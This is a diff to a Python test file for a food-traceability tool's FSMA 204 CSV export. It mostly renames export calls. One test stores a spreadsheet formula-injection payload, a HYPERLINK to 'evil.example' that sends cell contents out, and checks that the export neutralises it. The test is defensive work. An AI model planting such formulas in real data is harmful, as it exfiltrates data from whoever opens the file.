@@ -12,7 +12,7 @@ import pytest
 
 from ledger import KeyFolder, Ledger
 from tests.traceability.conftest import JAM, STRAWBERRY, Coop, at, ev, ref
-from traceability import Farm, Processing, Receiving, Recorder, Role, Site
+from traceability import Farm, Processing, Projection, Receiving, Role, Site, export_fsma204
 from traceability.demo import build_season
 from traceability.exports._fsma import COLUMNS, kde_map
 
@@ -75,7 +75,7 @@ def rows(text: str) -> list[dict[str, str]]:
 
 def test_lot_export_has_every_cte_with_its_kdes(coop: Coop) -> None:
     season(coop)
-    table = rows(coop.recorder.export_fsma204(gtin=STRAWBERRY, lot="G1"))
+    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="G1"))
     ctes = [(r["cte"], r["traceability_lot_code"]) for r in table]
     # Sorted by date, then lot code; harvesting and cooling carry no lot code (assigned at
     # initial packing, 21 CFR 1.1320). Sibling G2 and jam J1 are not in G1's chain.
@@ -129,7 +129,7 @@ def test_farm_phone_on_the_ledger_fills_the_harvester_kdes(coop: Coop) -> None:
     )
     coop.harvest("H9", plot="YK-P9")
     coop.grade("H9", {"G9": ("super", "30", ["36"])})
-    (packing,) = [r for r in rows(coop.recorder.export_fsma204()) if r["cte"] == "initial_packing"]
+    (packing,) = [r for r in rows(coop.fsma204()) if r["cte"] == "initial_packing"]
     # A leading "+" is neutralised like a formula (the cell is not a plain number).
     assert packing["harvester_phone"] == "'+86 998 555 0199"
     assert packing["farm_location"].endswith("tel. +86 998 555 0199")
@@ -141,7 +141,7 @@ def test_a_site_without_master_data_is_named_as_missing(coop: Coop) -> None:
     coop.test("H1")
     coop.release("H1")
     coop.ship("SH1", ["H1"])
-    (shipping,) = [r for r in rows(coop.recorder.export_fsma204()) if r["cte"] == "shipping"]
+    (shipping,) = [r for r in rows(coop.fsma204()) if r["cte"] == "shipping"]
     assert shipping["immediate_subsequent_recipient"] == "URUMQI-DC"
     assert "no trace.site entry for URUMQI-DC" in shipping["missing_kdes"]
 
@@ -149,7 +149,7 @@ def test_a_site_without_master_data_is_named_as_missing(coop: Coop) -> None:
 def test_date_range_export_keeps_only_events_in_range(coop: Coop) -> None:
     season(coop)
     start = datetime.fromisoformat(at(24 * 60 - 1))
-    table = rows(coop.recorder.export_fsma204(start=start))
+    table = rows(coop.fsma204(start=start))
     assert [r["cte"] for r in table] == ["shipping", "receiving"]
     # The lot code's source is named by an entry outside the range, and still found.
     assert table[0]["tlc_source_location"].startswith("Ayagh Packing Shed")
@@ -157,7 +157,7 @@ def test_date_range_export_keeps_only_events_in_range(coop: Coop) -> None:
 
 def test_transformation_has_a_row_per_input_lot(coop: Coop) -> None:
     season(coop)
-    table = rows(coop.recorder.export_fsma204(gtin=JAM, lot="J1"))
+    table = rows(coop.fsma204(gtin=JAM, lot="J1"))
     (jam,) = [r for r in table if r["cte"] == "transformation"]
     assert jam["traceability_lot_code"] == J1
     assert jam["input_tlc"] == f"(01){STRAWBERRY}(10)G2"
@@ -175,14 +175,14 @@ def test_lot_export_leaves_out_a_siblings_rows_of_a_shared_shipment(coop: Coop) 
     coop.release("G1")
     coop.release("G2")
     coop.ship("SH1", ["G1", "G2"])
-    table = rows(coop.recorder.export_fsma204(gtin=STRAWBERRY, lot="G1"))
+    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="G1"))
     assert {r["traceability_lot_code"] for r in table} == {"", G1}
     assert [r["cte"] for r in table if r["traceability_lot_code"] == G1] == [
         "initial_packing",
         "shipping",
     ]
     # The harvest lot's own export still reaches both graded lots.
-    table = rows(coop.recorder.export_fsma204(gtin=STRAWBERRY, lot="H1"))
+    table = rows(coop.fsma204(gtin=STRAWBERRY, lot="H1"))
     assert f"(01){STRAWBERRY}(10)G2" in {r["traceability_lot_code"] for r in table}
 
 
@@ -190,7 +190,7 @@ def test_formula_in_a_variety_exports_inert(coop: Coop) -> None:
     attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     coop.harvest("H1", variety=attack)
     coop.grade("H1", {"G1": ("super", "30", ["36"])})
-    text = coop.recorder.export_fsma204()
+    text = coop.fsma204()
     varieties = {r["variety"] for r in rows(text)}
     assert varieties == {"'" + attack}
     assert "\n=" not in text
@@ -233,7 +233,7 @@ def demo_export(tmp_path_factory: pytest.TempPathFactory) -> list[dict[str, str]
         f"sqlite:///{folder / 'ledger.db'}", origin, root, keys.create_log_signer(origin)
     )
     build_season(ledger, root, keys.create)
-    return rows(Recorder(ledger).export_fsma204())
+    return rows(export_fsma204(Projection(ledger), ledger))
 
 
 @pytest.mark.parametrize("cte", sorted(set(DOMAIN_CTES.values())))
@@ -241,7 +241,7 @@ def test_every_required_kde_is_carried_or_named_missing(
     cte: str, demo_export: list[dict[str, str]], coop: Coop
 ) -> None:
     season(coop)  # the demo has no processing: the fixture's season adds a transformation
-    table = demo_export + rows(coop.recorder.export_fsma204())
+    table = demo_export + rows(coop.fsma204())
     found = [r for r in table if r["cte"] == cte]
     assert found, f"no {cte} rows"
     for row in found:
